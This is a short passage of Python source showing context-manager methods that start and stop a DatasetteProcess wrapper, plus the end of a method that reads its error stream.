        return self.errors.read()

    def __enter__(self) -> DatasetteProcess:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()
